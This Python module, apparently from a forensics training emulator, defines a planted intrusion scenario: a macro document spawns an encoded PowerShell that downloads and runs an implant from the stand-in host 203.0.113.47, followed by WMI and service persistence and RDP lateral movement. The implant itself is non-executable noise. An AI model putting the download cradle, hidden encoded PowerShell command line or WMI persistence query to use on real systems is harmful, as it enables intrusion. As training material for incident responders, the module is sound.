"""The one incident planted in the simulated fleet: the facts tests and notebooks look for.

A finance user opens a macro document; Word starts ``cmd.exe`` which starts an encoded PowerShell
that downloads and runs an implant. The implant beacons to one external address, persists through
a WMI permanent event consumer (workstations) or a service (the file server), and the attacker
moves laterally over RDP with a stolen service account. Step times are fixed offsets from
midnight UTC of the collection day: the incident always happened a few days "ago".
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import random
from dataclasses import dataclass, field

from velonb.emulator.world.fleet import NETBIOS, day_start

__all__ = ["INCIDENT", "Incident", "RdpLogon", "Step", "implant_bytes"]

_IMPLANT_SIZE = 91_136
_C2_IP = "203.0.113.47"  # RFC 5737 documentation range: never a real host
_C2_PORT = 8443
_IMPLANT_PATH = "C:\\ProgramData\\Microsoft\\DeviceSync\\msdtcsvc.exe"
_DECODED = (
    "$u='https://203.0.113.47:8443/cdn/msdtc.bin';"
    "$p=\"$env:ProgramData\\Microsoft\\DeviceSync\\msdtcsvc.exe\";"
    "New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;"
    "(New-Object Net.WebClient).DownloadFile($u,$p);& $p -k netsvc"
)


def implant_bytes() -> bytes:
    """The dropped binary's exact bytes: a PE-looking blob of seeded noise (not executable)."""
    rng = random.Random(0x5EED_C0DE)
    stub = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
            + b"\x80\x00\x00\x00" + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7)
    stub += b"PE\x00\x00d\x86\x06\x00" + rng.randbytes(240)
    config = (f"\x00cfg:https://{_C2_IP}:{_C2_PORT}/cdn/;sleep=60;jitter=20;"
              "ua=Mozilla/5.0 (Windows NT 10.0; Win64; x64)\x00").encode()
    body = rng.randbytes(_IMPLANT_SIZE - len(stub) - len(config))
    mid = len(body) // 2
    return stub + body[:mid] + config + body[mid:]


@dataclass(frozen=True)
class Step:
    """One step of the attack; ``offset`` is from midnight UTC ``days_ago`` days before today."""

    key: str
    host: str
    what: str
    offset: dt.timedelta


@dataclass(frozen=True)
class RdpLogon:
    """One interactive RDP logon the attacker made."""

    step: str  # the Step key giving its time
    source_host: str
    source_ip: str
    target_host: str
    domain: str
    user: str


@dataclass(frozen=True)
class Incident:
    """The planted facts. Times: ``timeline(now)`` or ``at(step, now)``."""

    days_ago: int
    patient_zero: str
    compromised_hosts: tuple[str, ...]  # hosts running the implant and beaconing
    touched_hosts: tuple[str, ...]  # every host with evidence (adds the DC the attacker RDP'd to)
    user: str  # the phished user (sAMAccountName)
    stolen_account: str  # the service account used to move laterally
    document: str
    word_exe: str
    word_cmdline: str
    cmd_cmdline: str
    powershell_cmdline: str
    decoded_command: str
    binary_path: str
    binary_name: str
    binary_size: int
    binary_md5: str
    binary_sha1: str
    binary_sha256: str
    beacon_ip: str
    beacon_port: int
    wmi_hosts: tuple[str, ...]
    wmi_consumer: str
    wmi_filter: str
    wmi_filter_query: str
    wmi_command: str
    service_hosts: tuple[str, ...]
    service_name: str
    service_display_name: str
    service_command: str
    rdp_logons: tuple[RdpLogon, ...]
    steps: tuple[Step, ...] = field(default_factory=tuple)

    def at(self, key: str, now: dt.datetime) -> dt.datetime:
        """The UTC time of step ``key`` for a world whose clock reads ``now``."""
        for step in self.steps:
            if step.key == key:
                return day_start(now) - dt.timedelta(days=self.days_ago) + step.offset
        raise KeyError(key)

    def timeline(self, now: dt.datetime) -> dict[str, dt.datetime]:
        """Every step's UTC time, in order."""
        return {s.key: self.at(s.key, now) for s in self.steps}


def _build() -> Incident:
    data = implant_bytes()
    user = "jbrennan"
    doc = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
           "\\K7Q2ZP1M\\Q3_Vendor_Invoice_8841.docm")
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    enc = base64.b64encode(_DECODED.encode("utf-16-le")).decode()
    ps = f"powershell.exe -nop -w hidden -ep bypass -enc {enc}"
    h = timedelta_h
    steps = (
        Step("initial_access", "WKS-FIN-0042", "WINWORD.EXE opens the phishing .docm",
             h(9, 14, 22)),
        Step("execution", "WKS-FIN-0042", "macro starts cmd.exe /c powershell -enc", h(9, 15, 3)),
        Step("powershell", "WKS-FIN-0042", "encoded PowerShell downloads the implant",
             h(9, 15, 4)),
        Step("drop", "WKS-FIN-0042", "implant written to C:\\ProgramData\\...", h(9, 15, 9)),
        Step("beacon", "WKS-FIN-0042", "implant starts and beacons to the C2", h(9, 15, 11)),
        Step("persistence_wmi", "WKS-FIN-0042", "WMI permanent event consumer installed",
             h(9, 21, 40)),
        Step("lateral_fs", "SRV-FS-01", "RDP logon with the stolen svc_backup account",
             h(11, 2, 51)),
        Step("persistence_service", "SRV-FS-01", "MsDtcHelper service installed", h(11, 9, 30)),
        Step("lateral_wks", "WKS-FIN-0057", "RDP logon with svc_backup", h(13, 40, 5)),
        Step("persistence_wmi_2", "WKS-FIN-0057", "WMI consumer installed", h(13, 46, 12)),
        Step("beacon_2", "WKS-FIN-0057", "implant started by WmiPrvSE.exe", h(13, 50, 2)),
        Step("lateral_dc", "DC-01", "RDP logon to the DC from SRV-FS-01", h(33, 12, 44)),
    )
    return Incident(
        days_ago=3,
        patient_zero="WKS-FIN-0042",
        compromised_hosts=("WKS-FIN-0042", "SRV-FS-01", "WKS-FIN-0057"),
        touched_hosts=("WKS-FIN-0042", "SRV-FS-01", "WKS-FIN-0057", "DC-01"),
        user=user,
        stolen_account="svc_backup",
        document=doc,
        word_exe=word,
        word_cmdline=f'"{word}" /n "{doc}" /o ""',
        cmd_cmdline=f"C:\\Windows\\system32\\cmd.exe /c {ps}",
        powershell_cmdline=ps,
        decoded_command=_DECODED,
        binary_path=_IMPLANT_PATH,
        binary_name="msdtcsvc.exe",
        binary_size=len(data),
        binary_md5=hashlib.md5(data).hexdigest(),  # noqa: S324 - a file hash column, not security
        binary_sha1=hashlib.sha1(data).hexdigest(),  # noqa: S324
        binary_sha256=hashlib.sha256(data).hexdigest(),
        beacon_ip=_C2_IP,
        beacon_port=_C2_PORT,
        wmi_hosts=("WKS-FIN-0042", "WKS-FIN-0057"),
        wmi_consumer="MsDtcHealthMonitor",
        wmi_filter="MsDtcHealthFilter",
        wmi_filter_query=("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
                          "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND "
                          "TargetInstance.SystemUpTime >= 240 AND "
                          "TargetInstance.SystemUpTime < 325"),
        wmi_command=f"{_IMPLANT_PATH} -k netsvc",
        service_hosts=("SRV-FS-01",),
        service_name="MsDtcHelper",
        service_display_name="Distributed Transaction Coordinator Helper",
        service_command=f"{_IMPLANT_PATH} -k netsvc",
        rdp_logons=(
            RdpLogon("lateral_fs", "WKS-FIN-0042", "10.20.1.42", "SRV-FS-01", NETBIOS,
                     "svc_backup"),
            RdpLogon("lateral_wks", "WKS-FIN-0042", "10.20.1.42", "WKS-FIN-0057", NETBIOS,
                     "svc_backup"),
            RdpLogon("lateral_dc", "SRV-FS-01", "10.10.0.20", "DC-01", NETBIOS, "svc_backup"),
        ),
        steps=steps,
    )


def timedelta_h(hours: int, minutes: int, seconds: int) -> dt.timedelta:
    """A timedelta from hours, minutes and seconds."""
    return dt.timedelta(hours=hours, minutes=minutes, seconds=seconds)


INCIDENT: Incident = _build()
